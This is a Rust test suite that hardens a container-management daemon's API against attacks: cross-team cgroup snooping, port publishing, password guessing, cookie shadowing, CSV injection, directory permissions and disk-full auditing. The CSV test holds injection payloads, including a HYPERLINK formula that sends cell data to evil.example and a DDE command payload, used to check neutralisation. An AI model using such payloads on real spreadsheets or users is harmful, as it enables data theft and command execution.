//! Round-2 hardening of the API, each test running the attack: a member reading the whole
//! host's cgroup tree, an operator publishing on 0.0.0.0 or port 80, parallel password guesses
//! and a flood of made-up names, a shadowing second session cookie, a formula in a label of a
//! CSV statement, a socket path that would chmod its parent, and changes made while the audit
//! log cannot be written.
#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use std::{
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::{Arc, Barrier},
    time::{Duration, Instant},
};

use serde_json::{Value, json};
use tests::{
    ADMIN, ADMIN_PASSWORD, Daemon, RawResponse, TempDir, call,
    containers::Reaper,
    corral_bin, free_port,
    net::{NetGuard, bridged_daemon},
    remove_cgroup_subtree,
    rootfs::docker_save,
    unique,
};

const JSON: (&str, &str) = ("content-type", "application/json");
const CLI: (&str, &str) = ("x-corral-client", "test");

#[track_caller]
fn expect(r: &RawResponse, status: u16, what: &str) {
    assert_eq!(r.status, status, "{what}: {}", r.body);
}

fn login(d: &Daemon, name: &str, password: &str) -> RawResponse {
    let body = json!({"name": name, "password": password}).to_string();
    d.http("POST", "/api/v1/login", &[JSON, CLI], Some(&body))
}

/// Teams `team-a`, `team-b` and users `NAME` (role, team) with tokens.
fn teams_and_users(d: &Daemon, admin: &str, users: &[(&str, &str, &str)]) -> Vec<String> {
    for t in ["team-a", "team-b"] {
        expect(
            &call(d, admin, "POST", "/api/v1/teams", Some(json!({"name": t}))),
            201,
            "team",
        );
    }
    users
        .iter()
        .map(|(u, role, team)| {
            let body = json!({"name": u, "role": role, "teams": [team],
                "password": "a long password 123"});
            expect(
                &call(d, admin, "POST", "/api/v1/users", Some(body)),
                201,
                "user",
            );
            d.token_for(u)
        })
        .collect()
}

fn import_busybox(d: &Daemon, admin: &str) -> TempDir {
    let dir = TempDir::new("corral-it-img");
    let tarball = dir.path().join("bb.tar");
    docker_save(&tarball, "bb:1", &["sh", "-c", "exec sleep 1000"]);
    let r = call(
        d,
        admin,
        "POST",
        "/api/v1/images/import",
        Some(json!({"path": tarball, "tag": "bb:1"})),
    );
    expect(&r, 201, "import");
    dir
}

/// A viewer of team A asks for the host's cgroup tree: it sees its team's container, and
/// neither team B's container nor anything of the host outside Corral's root (whose usage
/// numbers it does not get either). The admin sees all of it.
#[test]
fn a_viewer_of_team_a_does_not_see_team_bs_cgroups_or_the_host() {
    let d = Daemon::start();
    let _reaper = Reaper::new(&d);
    let admin = d.admin_token();
    let tokens = teams_and_users(&d, &admin, &[("view-a", "viewer", "team-a")]);
    let _img = import_busybox(&d, &admin);
    for (name, team) in [("a-web", "team-a"), ("b-secret", "team-b")] {
        let r = call(
            &d,
            &admin,
            "POST",
            "/api/v1/containers",
            Some(json!({"name": name, "team": team, "image": "bb:1", "start": true})),
        );
        expect(&r, 201, name);
    }
    let root = format!("/{}", d.cgroup_root);
    let tree = |token: &str| {
        let r = call(&d, token, "GET", "/api/v1/host/cgroups", None);
        expect(&r, 200, "tree");
        let t: wire::CgroupTree = serde_json::from_str(&r.body).unwrap();
        t
    };
    let all = tree(&admin);
    let paths = |t: &wire::CgroupTree| -> Vec<String> {
        t.hierarchies
            .iter()
            .flat_map(|h| h.nodes.iter().map(|n| n.path.clone()))
            .collect()
    };
    let admin_paths = paths(&all);
    assert!(
        admin_paths.iter().any(|p| p.ends_with("/team-b/b-secret")),
        "the admin sees team B's container"
    );
    assert!(
        admin_paths
            .iter()
            .any(|p| !p.starts_with(&root) && p != "/"),
        "the admin sees the rest of the host"
    );

    let mine = tree(&tokens[0]);
    let seen = paths(&mine);
    println!(
        "viewer of team A: {} nodes of the admin's {}",
        seen.len(),
        admin_paths.len()
    );
    assert!(
        seen.iter().any(|p| p.ends_with("/team-a/a-web")),
        "its own container: {seen:?}"
    );
    for n in mine.hierarchies.iter().flat_map(|h| &h.nodes) {
        let p = &n.path;
        assert!(!p.contains("team-b") && !p.contains("b-secret"), "{p}");
        let own = p.starts_with(&format!("{root}/team-a"));
        assert!(
            own || p == "/" || *p == root,
            "nothing of the host outside its team: {p}"
        );
        if !own {
            assert_eq!(
                (n.cpu_usage_usec, n.memory_current, n.pids_current, n.procs),
                (None, None, None, None),
                "{p}: the aggregate roots carry no usage"
            );
        }
    }
    // The OpenAPI document says so.
    let doc = call(&d, &admin, "GET", "/api/v1/openapi.json", None).json();
    let op = &doc["paths"]["/api/v1/host/cgroups"]["get"];
    let text = op.to_string();
    assert!(
        text.contains("own teams") && text.contains("Admins"),
        "{text}"
    );
}

/// An operator publishing on every address (`0.0.0.0`) or on a privileged host port gets a 403
/// naming the port and the rule; an admin may.
#[test]
fn an_operator_cannot_publish_off_loopback_or_below_1024() {
    let (d, bridge, table) = bridged_daemon(false, &[]);
    let _net = NetGuard::new(&d, &bridge, &table);
    let _reaper = Reaper::new(&d);
    let admin = d.admin_token();
    let tokens = teams_and_users(&d, &admin, &[("op-a", "operator", "team-a")]);
    let _img = import_busybox(&d, &admin);
    let op = &tokens[0];
    let high = free_port();
    for (port, why) in [
        (format!("0.0.0.0:{high}:80"), "publishing on 0.0.0.0"),
        (format!("[::]:{high}:80"), "publishing on ::"),
        (
            "127.0.0.1:80:80".to_owned(),
            "host port 80 is a privileged port",
        ),
        ("80:80".to_owned(), "host port 80 is a privileged port"),
    ] {
        let r = call(
            &d,
            op,
            "POST",
            "/api/v1/containers",
            Some(json!({"name": unique("p"), "image": "bb:1", "ports": [port]})),
        );
        expect(&r, 403, &port);
        let msg = r.json()["message"].as_str().unwrap().to_owned();
        assert!(
            msg.contains("ports[0]") && msg.contains(why) && msg.contains("needs admin"),
            "{port}: {msg}"
        );
    }
    assert_eq!(
        call(&d, &admin, "GET", "/api/v1/containers?all=true", None).json(),
        json!([]),
        "nothing was created"
    );
    // On loopback and a high port the operator may.
    let r = call(
        &d,
        op,
        "POST",
        "/api/v1/containers",
        Some(json!({"name": "op-ok", "image": "bb:1", "ports": [format!("127.0.0.1:{high}:80")]})),
    );
    expect(&r, 201, "operator on loopback, high port");
    // The admin may use a privileged port (a free one on loopback), and a non-loopback
    // address passes the check (this one is not on the host, so binding it fails after it).
    let low = (900..1024)
        .rev()
        .find(|p| std::net::TcpListener::bind(("127.0.0.1", *p)).is_ok())
        .expect("a free port below 1024");
    let r = call(
        &d,
        &admin,
        "POST",
        "/api/v1/containers",
        Some(
            json!({"name": "admin-low", "team": "team-a", "image": "bb:1",
            "ports": [format!("127.0.0.1:{low}:80")]}),
        ),
    );
    expect(&r, 201, "admin on a privileged port");
    let r = call(
        &d,
        &admin,
        "POST",
        "/api/v1/containers",
        Some(
            json!({"name": "admin-lan", "team": "team-a", "image": "bb:1",
            "ports": [format!("10.213.254.77:{high}:80")]}),
        ),
    );
    assert_ne!(r.status, 403, "{}", r.body);
    assert!(!r.body.contains("needs admin"), "{}", r.body);
    for name in ["op-ok", "admin-low", "admin-lan"] {
        let _ = call(
            &d,
            &admin,
            "DELETE",
            &format!("/api/v1/containers/{name}?force=true"),
            None,
        );
    }
}

/// Audit rows of `actor` for `login`, by result.
fn login_rows(d: &Daemon, admin: &str, actor: &str, result: &str) -> usize {
    let r = call(
        d,
        admin,
        "GET",
        "/api/v1/audit?action=login&limit=1000",
        None,
    );
    r.json()
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["actor"] == actor && e["result"] == result)
        .count()
}

/// 30 wrong guesses sent at once: each attempt is reserved before its hash is checked, so only
/// the free ones and the one that earns the first delay are verified; the rest wait.
#[test]
fn thirty_parallel_guesses_get_at_most_four_verifications() {
    let d = Arc::new(Daemon::start());
    let admin = d.admin_token();
    let r = call(
        &d,
        &admin,
        "POST",
        "/api/v1/users",
        Some(json!({"name": "victim", "role": "viewer", "teams": [],
            "password": "the-real-password"})),
    );
    expect(&r, 201, "victim");
    let barrier = Arc::new(Barrier::new(30));
    let handles: Vec<_> = (0..30)
        .map(|i| {
            let (d, barrier) = (d.clone(), barrier.clone());
            std::thread::spawn(move || {
                barrier.wait();
                login(&d, "victim", &format!("guess-{i}")).status
            })
        })
        .collect();
    let statuses: Vec<u16> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    println!("30 parallel guesses: {checked} verified (401), {throttled} throttled (429)");
    assert_eq!(checked + throttled, 30, "{statuses:?}");
    assert!(checked <= 4, "{checked} guesses were checked: {statuses:?}");
    assert_eq!(login_rows(&d, &admin, "victim", "failed"), checked);
    assert_eq!(login_rows(&d, &admin, "victim", "throttled"), throttled);
}

/// While made-up names flood the login, the real admin still logs in; and the flood itself
/// learns nothing: every made-up name is answered "wrong name or password", never 429 (which
/// only unknown names would get).
#[test]
fn a_flood_of_unknown_names_does_not_lock_out_the_admin() {
    let d = Arc::new(Daemon::start());
    d.admin_token();
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flood: Vec<_> = (0..6)
        .map(|t| {
            let (d, stop) = (d.clone(), stop.clone());
            std::thread::spawn(move || {
                let mut statuses = Vec::new();
                let mut i = 0;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    statuses.push(login(&d, &format!("nobody-{t}-{i}"), "guess-guess").status);
                    i += 1;
                }
                statuses
            })
        })
        .collect();
    // Let the flood drain the global bucket (30 at once, 5/s) first.
    std::thread::sleep(Duration::from_secs(2));
    let mut admin = Vec::new();
    for _ in 0..3 {
        admin.push(login(&d, ADMIN, ADMIN_PASSWORD).status);
        std::thread::sleep(Duration::from_millis(300));
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let statuses: Vec<u16> = flood.into_iter().flat_map(|h| h.join().unwrap()).collect();
    println!(
        "flood of {} made-up names; the admin's logins: {admin:?}",
        statuses.len()
    );
    assert!(statuses.len() > 60, "the flood ran: {}", statuses.len());
    assert_eq!(admin, [200, 200, 200], "the admin logs in during the flood");
    assert!(
        statuses.iter().all(|s| *s == 401),
        "made-up names are answered like wrong passwords: {:?}",
        statuses.iter().filter(|s| **s != 401).count()
    );
}

/// A cookie planted for a longer path (another port on localhost, a sibling host) is sent
/// before the victim's: with two session cookies the request is refused and audited, not run
/// in whichever session came first.
#[test]
fn a_request_with_two_session_cookies_is_refused() {
    let d = Daemon::start();
    let admin = d.admin_token();
    let r = call(
        &d,
        &admin,
        "POST",
        "/api/v1/users",
        Some(json!({"name": "mallory", "role": "viewer", "teams": [],
            "password": "mallory's password"})),
    );
    expect(&r, 201, "mallory");
    let victim = login(&d, ADMIN, ADMIN_PASSWORD).session_cookie().unwrap();
    let planted = login(&d, "mallory", "mallory's password")
        .session_cookie()
        .unwrap();
    for cookies in [
        vec![format!("corral_session={planted}; corral_session={victim}")],
        vec![
            format!("corral_session={planted}"),
            format!("theme=dark; corral_session={victim}"),
        ],
    ] {
        let mut headers: Vec<(&str, &str)> =
            cookies.iter().map(|c| ("cookie", c.as_str())).collect();
        headers.push(CLI);
        let r = d.http("GET", "/api/v1/me", &headers, None);
        expect(&r, 400, "two session cookies");
        assert_eq!(r.code(), "duplicate_session_cookie");
        assert!(
            r.json()["message"]
                .as_str()
                .unwrap()
                .contains("2 session cookies")
        );
    }
    // One cookie still works.
    let one = format!("corral_session={victim}");
    let r = d.http("GET", "/api/v1/me", &[("cookie", &one)], None);
    expect(&r, 200, "one cookie");
    assert_eq!(r.json()["name"], ADMIN);
    let rows = call(
        &d,
        &admin,
        "GET",
        "/api/v1/audit?action=session.cookie&limit=10",
        None,
    )
    .json();
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(rows.iter().all(|r| r["result"] == "denied"));
}

/// Splits one CSV line into cells (RFC 4180 quotes).
fn csv_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

/// A label that is a spreadsheet formula reaches the team's CSV statement as text: no cell —
/// nor any `;`-separated part of one, for locales that split there — starts with `=`, `+`,
/// `-`, `@`, tab or CR.
#[test]
fn a_formula_in_a_label_comes_out_of_the_csv_neutralised() {
    let d = Daemon::start();
    let admin = d.admin_token();
    expect(
        &call(
            &d,
            &admin,
            "POST",
            "/api/v1/teams",
            Some(json!({"name": "red"})),
        ),
        201,
        "team",
    );
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let labels = json!({formula: "x", "note": "ok;=cmd|' /C calc'!A0", "sum": "@SUM(1+1)"});
    let store = backend::store::Store::open(&d.state.path().join("state/corral.db")).unwrap();
    let now_ms = backend::metering::sampler::wall_ms();
    let mut batch = backend::metering::store::Batch::default();
    let owner = backend::metering::store::LedgerOwner {
        container_id: "id-evil".into(),
        name: "web".into(),
        team: "red".into(),
        labels: labels.to_string(),
    };
    let usage = backend::metering::Usage {
        duration_ns: 1_000_000_000,
        cpu_usec: 1_000_000,
        ..Default::default()
    };
    batch.add_ledger(&owner, now_ms, &usage);
    backend::metering::store::commit(&mut store.lock(), &batch).unwrap();
    let month = backend::metering::calendar::format_month(now_ms / 1000);
    let r = call(
        &d,
        &admin,
        "GET",
        &format!("/api/v1/billing/statements/red/{month}?format=csv"),
        None,
    );
    expect(&r, 200, "csv");
    let line = r
        .body
        .lines()
        .find(|l| l.starts_with("container,"))
        .unwrap_or_else(|| panic!("no container row: {}", r.body));
    let cells = csv_cells(line);
    println!("labels cell: {}", cells[4]);
    assert_eq!(cells.len(), 17, "{cells:?}");
    for cell in &cells {
        for part in cell.split(';') {
            assert!(
                !part.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell part starts a formula: {part:?} in {line}"
            );
        }
    }
    assert!(cells[4].starts_with(&format!("'{formula}")), "{}", cells[4]);
}

/// `corral serve` with its own flags (no setup), stopped and its cgroup subtree removed on drop.
struct Serve {
    child: Child,
    port: u16,
    socket: PathBuf,
    cgroup_root: String,
}

impl Serve {
    fn start(socket: &Path, state_dir: &Path, log: &Path) -> Result<Self, String> {
        let port = free_port();
        let cgroup_root = unique("corral-it");
        let child = Command::new(corral_bin())
            .arg("serve")
            .args(["--listen", &format!("127.0.0.1:{port}")])
            .arg("--socket")
            .arg(socket)
            .arg("--state-dir")
            .arg(state_dir)
            .args(["--cgroup-root", &cgroup_root])
            .env("RUST_LOG", "info")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(log).unwrap())
            .spawn()
            .unwrap();
        let mut s = Serve {
            child,
            port,
            socket: socket.to_owned(),
            cgroup_root,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while std::net::TcpStream::connect(("127.0.0.1", s.port)).is_err() || !s.socket.exists() {
            if let Some(status) = s.child.try_wait().unwrap() {
                return Err(format!(
                    "exited with {status}: {}",
                    std::fs::read_to_string(log).unwrap_or_default()
                ));
            }
            assert!(Instant::now() < deadline, "daemon did not start");
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(s)
    }

    /// One request over the unix socket (root: admin), head and body in one write: a refusal
    /// may come back before the daemon reads the body.
    fn unix(&self, method: &str, path: &str, body: Option<Value>) -> RawResponse {
        use std::io::{Read, Write};
        let body = body.map(|b| b.to_string()).unwrap_or_default();
        let mut stream = std::os::unix::net::UnixStream::connect(&self.socket).unwrap();
        let req = format!(
            "{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
             X-Corral-Client: test\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(req.as_bytes()).unwrap();
        let mut raw = String::new();
        let _ = stream.read_to_string(&mut raw);
        let (head, rest) = raw.split_once("\r\n\r\n").unwrap_or((&raw, ""));
        let status = head
            .split(' ')
            .nth(1)
            .and_then(|c| c.parse().ok())
            .unwrap_or(0);
        let chunked = head
            .to_ascii_lowercase()
            .contains("transfer-encoding: chunked");
        let body = if chunked {
            // Every answer here is small: one chunk.
            rest.split_once("\r\n")
                .map(|(_, b)| b.rsplit_once("\r\n0\r\n").map_or(b, |(b, _)| b))
                .unwrap_or(rest)
                .to_owned()
        } else {
            rest.to_owned()
        };
        RawResponse {
            status,
            headers: Vec::new(),
            body,
        }
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        tests::terminate(&mut self.child);
        remove_cgroup_subtree(&self.cgroup_root);
    }
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
}

/// `--socket` in a directory that exists (think /tmp) leaves that directory's mode alone; the
/// directories corral creates are 0700, the socket 0600; a state directory others may write
/// is refused, not silently re-moded.
#[test]
fn only_directories_corral_creates_are_made_private() {
    let tmp = TempDir::new("corral-it-dirs");
    let shared = tmp.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o755)).unwrap();
    let socket = shared.join("c.sock");
    let state = tmp.path().join("new/state");
    {
        let _s = Serve::start(&socket, &state, &tmp.path().join("log")).unwrap();
        assert_eq!(
            mode(&shared),
            0o755,
            "an existing socket directory keeps its mode"
        );
        assert_eq!(mode(&socket), 0o600, "the socket");
        assert_eq!(mode(&state), 0o700, "the state directory corral created");
        assert_eq!(
            mode(&tmp.path().join("new")),
            0o700,
            "and its parent, created too"
        );
    }
    // A missing socket directory is created 0700.
    let run = tmp.path().join("run/deep");
    {
        let _s = Serve::start(&run.join("c.sock"), &state, &tmp.path().join("log")).unwrap();
        assert_eq!(mode(&run), 0o700);
        assert_eq!(mode(&tmp.path().join("run")), 0o700);
    }
    // An existing state directory anyone may write to: refused, and left as it was.
    let open = tmp.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let err = Serve::start(&shared.join("d.sock"), &open, &tmp.path().join("log"))
        .err()
        .expect("refused");
    assert!(
        err.contains("writable by other users") && err.contains("chmod 700"),
        "{err}"
    );
    assert_eq!(mode(&open), 0o777);
}

/// A tmpfs mounted by the test in its own directory, lazily unmounted on drop.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn new(at: &Path, size: &str) -> Self {
        std::fs::create_dir_all(at).unwrap();
        nix::mount::mount(
            Some("corral-it-tmpfs"),
            at,
            Some("tmpfs"),
            nix::mount::MsFlags::MS_NOSUID | nix::mount::MsFlags::MS_NODEV,
            Some(format!("size={size},mode=0755").as_str()),
        )
        .unwrap();
        Tmpfs(at.to_owned())
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = nix::mount::umount2(&self.0, nix::mount::MntFlags::MNT_DETACH);
    }
}

/// Fills the filesystem of `dir` with one file until the kernel says it is full.
fn fill(dir: &Path) -> PathBuf {
    use std::io::Write;
    let path = dir.join("filler");
    let mut f = std::fs::File::create(&path).unwrap();
    let block = vec![0u8; 64 << 10];
    while f.write_all(&block).is_ok() {}
    let small = [0u8; 512];
    while f.write_all(&small).is_ok() {}
    let _ = f.sync_all();
    path
}

/// The state filesystem fills up: creating a user (or a team, a token) is refused with a 503
/// that names the audit log, and nothing changes; with space back it works, audit row and all.
#[test]
fn a_full_state_filesystem_refuses_changes_it_cannot_audit() {
    let tmp = TempDir::new("corral-it-full");
    let fs = Tmpfs::new(&tmp.path().join("fs"), "32m");
    let state = fs.0.join("state");
    let s = Serve::start(&tmp.path().join("c.sock"), &state, &tmp.path().join("log")).unwrap();
    let user = |name: &str| {
        s.unix(
            "POST",
            "/api/v1/users",
            Some(json!({"name": name, "role": "viewer", "teams": [],
                "password": "a long password 123"})),
        )
    };
    expect(&user("before"), 201, "with space");
    let filler = fill(&fs.0);
    for r in [
        user("during"),
        s.unix("POST", "/api/v1/teams", Some(json!({"name": "t-during"}))),
        s.unix(
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "tok-during", "user": "before"})),
        ),
    ] {
        expect(&r, 503, "disk full");
        assert_eq!(r.code(), "audit_unavailable");
        let msg = r.json()["message"].as_str().unwrap().to_owned();
        assert!(
            msg.contains("audit log") && msg.contains("refused"),
            "{msg}"
        );
    }
    let users = s.unix("GET", "/api/v1/users", None);
    expect(&users, 200, "reads still work");
    assert!(
        !users.body.contains("during"),
        "nothing changed: {}",
        users.body
    );
    std::fs::remove_file(filler).unwrap();
    expect(&user("after"), 201, "space is back");
    let audit = s.unix("GET", "/api/v1/audit?limit=100", None);
    assert!(audit.body.contains("user:after"), "{}", audit.body);
    drop(s);
}
